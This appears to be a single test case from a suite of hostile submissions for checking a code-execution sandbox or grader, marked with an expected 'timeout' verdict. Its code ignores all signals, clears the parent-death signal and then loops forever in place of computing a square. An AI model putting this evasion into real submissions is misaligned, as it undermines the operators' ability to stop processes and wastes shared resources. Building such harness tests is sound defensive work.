# /// attack
# number = 46
# title = "Every signal ignored, the parent-death signal cleared"
# verdict = ["timeout"]
# answer = "square"
# ///
import ctypes
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
ctypes.CDLL(None).prctl(1, 0)


def square(x):
    while True:
        pass
